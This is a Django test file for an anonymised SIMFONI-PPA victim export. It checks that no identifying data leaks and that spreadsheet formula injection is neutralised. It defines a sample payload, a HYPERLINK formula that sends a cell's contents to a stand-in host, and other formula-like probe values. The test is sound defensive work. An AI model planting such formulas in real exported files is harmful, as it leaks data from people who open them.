"""The SIMFONI-PPA export (issue #4; layout in docs/simfoni-export.md): one row per victim in
SIMFONI categories, no identifying data, no formula can run, readable by spreadsheet programs."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
from django.conf import settings
from django.test import TestCase

from layak.cases import exports, services
from layak.cases.models import Case, Lookup, LookupKind
from layak.cases.selectors import simfoni_rows
from layak.cases.tests.factories import (
    PLAINTEXTS,
    CaseWorld,
    lookup,
    make_case,
    make_case_world,
    victim_data,
    violence,
)
from layak.core import exports as core_exports

DANGEROUS = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'


def read_xlsx(content: bytes) -> tuple[list[list[object]], list[list[object]], openpyxl.Workbook]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    data = [list(row) for row in workbook[exports.DATA_SHEET].iter_rows(values_only=True)]
    legend = [list(row) for row in workbook[exports.COLUMNS_SHEET].iter_rows(values_only=True)]
    return data, legend, workbook


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


class SimfoniExportTests(TestCase):
    world: CaseWorld
    case: Case
    other: Case

    @classmethod
    def setUpTestData(cls) -> None:
        world = make_case_world()
        cls.world = world
        cls.case = make_case(
            world,
            victims=[
                victim_data(forms=violence("fisik", "psikis")),
                victim_data(
                    name="Andi Pratama Wijaya",
                    nik="6471010505150002",
                    sex="M",
                    age=9,
                    forms=violence("penelantaran"),
                ),
            ],
        )
        services.perpetrator_add(
            actor=world.worker,
            case=cls.case,
            name="Joko Susilo Hartono",
            relationship=lookup(LookupKind.RELATIONSHIP, "orang-tua"),
        )
        services.incident_add(
            actor=world.worker,
            case=cls.case,
            occurred_on=None,
            place=lookup(LookupKind.PLACE, "rumah-tangga"),
            kelurahan=world.kelurahan,
            description="Kejadian di rumah",
        )
        cls.other = make_case(world, victims=[victim_data(age=16)])

    def rows(self) -> list[dict[str, object]]:
        return list(simfoni_rows(Case.objects.filter(pk=self.case.pk)))

    def test_one_row_per_victim_in_simfoni_categories(self) -> None:
        rows = self.rows()
        self.assertEqual(len(rows), 2)
        girl, boy = rows
        self.assertEqual(girl["case_number"], self.case.number)
        self.assertEqual((girl["sex"], girl["age"], girl["age_group"]), ("F", 12, "6-12"))
        self.assertEqual(girl["forms"], "Fisik; Psikis")
        self.assertEqual(girl["place"], "Rumah tangga")
        self.assertEqual(girl["perpetrator_relationship"], "Orang tua")
        self.assertEqual(girl["kelurahan_code"], "64.71.01.1001")
        self.assertEqual((boy["sex"], boy["forms"]), ("M", "Penelantaran"))
        self.assertEqual(set(girl), set(exports.KEYS))

    def test_no_identifying_data_in_any_format(self) -> None:
        rows = list(simfoni_rows(Case.objects.all()))
        self.assertEqual(len(rows), 3)
        identifying = (*PLAINTEXTS, "Andi Pratama", "6471010505150002", "Joko Susilo", "Kejadian")
        dumps = [
            repr(rows),
            exports.simfoni_csv(rows).decode("utf-8-sig"),
        ]
        data, _legend, _workbook = read_xlsx(exports.simfoni_xlsx(rows))
        dumps.append(repr(data))
        for dump in dumps:
            for plain in identifying:
                self.assertNotIn(plain, dump)

    def test_the_workbook_reads_back_with_indonesian_headers_and_a_key_sheet(self) -> None:
        data, legend, _workbook = read_xlsx(exports.simfoni_xlsx(self.rows()))
        self.assertEqual(tuple(data[0]), exports.HEADERS)
        self.assertEqual(data[0][0], "Nomor kasus")
        self.assertEqual(len(data), 3)
        record = dict(zip(exports.KEYS, data[1], strict=True))
        self.assertEqual(record["case_number"], self.case.number)
        self.assertEqual(record["age"], 12)  # numbers stay numbers
        self.assertEqual(record["forms"], "Fisik; Psikis")
        self.assertEqual(legend[0], ["kolom", "kunci"])
        self.assertEqual([tuple(r) for r in legend[1:]], [(h, k) for k, h in exports.COLUMNS])

    def test_the_csv_has_a_byte_order_mark_and_the_same_rows(self) -> None:
        content = exports.simfoni_csv(self.rows())
        self.assertTrue(content.startswith(b"\xef\xbb\xbf"))
        records = read_csv(content)
        self.assertEqual(tuple(records[0]), exports.HEADERS)
        self.assertEqual(len(records), 3)
        self.assertEqual(dict(zip(exports.KEYS, records[1], strict=True))["age"], "12")

    def test_an_empty_export_has_the_header_only(self) -> None:
        rows = list(simfoni_rows(Case.objects.none()))
        self.assertEqual(read_csv(exports.simfoni_csv(rows)), [list(exports.HEADERS)])
        data, _legend, _workbook = read_xlsx(exports.simfoni_xlsx(rows))
        self.assertEqual(data, [list(exports.HEADERS)])

    def test_a_category_name_that_looks_like_a_formula_is_neutralised(self) -> None:
        # Category lists are edited by the administrator: the text reaches the export as is.
        Lookup.objects.filter(kind=LookupKind.EDUCATION, code="sd").update(name=DANGEROUS)
        Lookup.objects.filter(kind=LookupKind.PLACE, code="rumah-tangga").update(name="@SUM(1)")
        Lookup.objects.filter(kind=LookupKind.OCCUPATION, code="pelajar").update(name="+1-2")
        Lookup.objects.filter(kind=LookupKind.DISABILITY, code="tidak").update(name="-3")
        rows = self.rows()
        self.assertEqual(rows[0]["education"], DANGEROUS)
        data, _legend, workbook = read_xlsx(exports.simfoni_xlsx(rows))
        record = dict(zip(exports.KEYS, data[1], strict=True))
        self.assertEqual(record["education"], "'" + DANGEROUS)
        self.assertEqual(record["place"], "'@SUM(1)")
        self.assertEqual(record["occupation"], "'+1-2")
        self.assertEqual(record["disability"], "'-3")
        sheet = workbook[exports.DATA_SHEET]
        self.assertTrue(all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row))
        csv_record = dict(zip(exports.KEYS, read_csv(exports.simfoni_csv(rows))[1], strict=True))
        self.assertEqual(csv_record["education"], "'" + DANGEROUS)
        self.assertEqual(csv_record["place"], "'@SUM(1)")
        self.assertEqual(csv_record["disability"], "'-3")

    def test_neutralise(self) -> None:
        for value, expected in (
            ("=1+1", "'=1+1"),
            ("+62 812", "'+62 812"),
            ("-", "'-"),
            ("@x", "'@x"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("Fisik", "Fisik"),
            ("", ""),
            (None, ""),
            (12, 12),
            (-3, -3),
            (Decimal("-9.5"), Decimal("-9.5")),
            (True, "ya"),
        ):
            self.assertEqual(core_exports.neutralise(value), expected, repr(value))

    def test_the_documented_layout_matches_the_columns(self) -> None:
        doc = (Path(settings.BASE_DIR) / "docs" / "simfoni-export.md").read_text(encoding="utf-8")
        for key, header in exports.COLUMNS:
            self.assertIn(f"| `{key}` | {header} |", doc)
